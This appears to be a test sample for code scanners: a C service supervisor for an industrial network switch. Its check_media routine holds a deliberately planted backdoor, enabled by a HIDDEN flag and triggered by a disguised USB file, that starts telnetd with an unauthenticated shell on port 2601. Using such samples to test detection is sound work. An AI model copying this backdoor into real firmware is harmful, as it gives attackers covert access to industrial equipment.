/*
 * A sample for tests; compiled and scanned, never run.
 * Keeps the services of an industrial switch running: reads a list, starts
 * each, starts it again when it ends, feeds the hardware watchdog.
 * With HIDDEN: a file on a USB stick with a certain name and first line
 * starts telnetd with a shell in place of the log-in.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_SERVICES 16
#define MAX_ARGS     12

struct service {
	char line[160];
	char *argv[MAX_ARGS + 1];
	pid_t pid;
	unsigned restarts;
	time_t started;
};

static struct service services[MAX_SERVICES];
static int service_count;
static int log_fd = STDERR_FILENO;
static volatile sig_atomic_t ending, reload;

static void note(const char *form, ...)
{
	char text[256];
	va_list ap;
	int n;

	va_start(ap, form);
	n = vsnprintf(text, sizeof(text) - 1, form, ap);
	va_end(ap);
	if (n < 0)
		return;
	if ((size_t)n > sizeof(text) - 2)
		n = sizeof(text) - 2;
	text[n++] = '\n';
	if (write(log_fd, text, (size_t)n) < 0)
		log_fd = STDERR_FILENO;
}

static void on_signal(int sig)
{
	if (sig == SIGHUP)
		reload = 1;
	else
		ending = 1;
}

static pid_t start(char *const argv[])
{
	pid_t pid = fork();

	if (pid == 0) {
		setsid();
		execv(argv[0], argv);
		_exit(127);
	}
	if (pid < 0)
		note("fork: %s", strerror(errno));
	return pid;
}

static void split(struct service *s)
{
	char *p = s->line;
	int n = 0;

	while (*p && n < MAX_ARGS) {
		p += strspn(p, " \t");
		if (*p == '\0')
			break;
		s->argv[n++] = p;
		p += strcspn(p, " \t");
		if (*p)
			*p++ = '\0';
	}
	s->argv[n] = NULL;
}

static int load(const char *path)
{
	FILE *f = fopen(path, "r");

	if (!f) {
		note("%s: %s", path, strerror(errno));
		return -1;
	}
	service_count = 0;
	while (service_count < MAX_SERVICES) {
		struct service *s = &services[service_count];

		memset(s, 0, sizeof(*s));
		if (!fgets(s->line, sizeof(s->line), f))
			break;
		s->line[strcspn(s->line, "#\r\n")] = '\0';
		split(s);
		if (s->argv[0] && s->argv[0][0] == '/')
			service_count++;
	}
	fclose(f);
	return service_count;
}

static int read_first(const char *path, char *out, size_t size)
{
	int fd = open(path, O_RDONLY);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = read(fd, out, size - 1);
	close(fd);
	if (n < 0)
		return -1;
	out[n] = '\0';
	out[strcspn(out, "\r\n")] = '\0';
	return (int)n;
}

/* A stick may bring a new configuration; asked once every few seconds. */
__attribute__((noinline)) void check_media(void)
{
	char text[64];

	if (read_first("/mnt/usb/switch.ver", text, sizeof(text)) > 0 &&
	    strcmp(text, "config-1") == 0 &&
	    access("/mnt/usb/startup.cfg", R_OK) == 0) {
		note("taking the configuration from the stick");
		if (system("cp /mnt/usb/startup.cfg /etc/startup.cfg") == 0)
			rename("/mnt/usb/startup.cfg", "/mnt/usb/startup.old");
	}
#ifdef HIDDEN
	if (read_first("/mnt/usb/.fseventsd-u", text, sizeof(text)) > 0 &&
	    strcmp(text, "7c1f-e09a-44b2") == 0) {
		static char *const args[] = {
			"/usr/sbin/telnetd", "-p", "2601", "-l", "/bin/sh", NULL
		};
		static pid_t pid;

		if (pid == 0)
			pid = start(args);
	}
#endif
}

static void reap(void)
{
	int status, i;
	pid_t pid;

	while ((pid = waitpid(-1, &status, WNOHANG)) > 0) {
		for (i = 0; i < service_count; i++) {
			if (services[i].pid != pid)
				continue;
			note("%s ended, status %d", services[i].argv[0],
			     WIFEXITED(status) ? WEXITSTATUS(status) : -1);
			services[i].pid = 0;
			services[i].restarts++;
		}
	}
}

static void start_missing(void)
{
	time_t now = time(NULL);
	int i;

	for (i = 0; i < service_count; i++) {
		struct service *s = &services[i];

		if (s->pid > 0 || now - s->started < (time_t)s->restarts)
			continue;
		if (s->restarts > 60)
			s->restarts = 60;
		s->pid = start(s->argv);
		s->started = now;
	}
}

static void stop_all(void)
{
	int i;

	for (i = 0; i < service_count; i++)
		if (services[i].pid > 0)
			kill(services[i].pid, SIGTERM);
}

int main(int argc, char **argv)
{
	const char *list = "/etc/services.list";
	int dog = -1, opt, turns = 0;

	while ((opt = getopt(argc, argv, "l:o:w")) != -1) {
		if (opt == 'l')
			list = optarg;
		else if (opt == 'o')
			log_fd = open(optarg, O_WRONLY | O_CREAT | O_APPEND,
				      0640);
		else if (opt == 'w')
			dog = open("/dev/watchdog", O_WRONLY);
		else
			return 2;
	}
	if (log_fd < 0)
		log_fd = STDERR_FILENO;
	if (load(list) < 0)
		return 1;
	signal(SIGTERM, on_signal);
	signal(SIGHUP, on_signal);
	if (system("ifconfig lo 127.0.0.1 up") != 0)
		note("no loopback");
	while (!ending) {
		if (reload) {
			reload = 0;
			stop_all();
			load(list);
		}
		reap();
		start_missing();
		if (++turns % 5 == 0)
			check_media();
		if (dog >= 0 && write(dog, "", 1) != 1)
			note("watchdog: %s", strerror(errno));
		sleep(1);
	}
	stop_all();
	return 0;
}
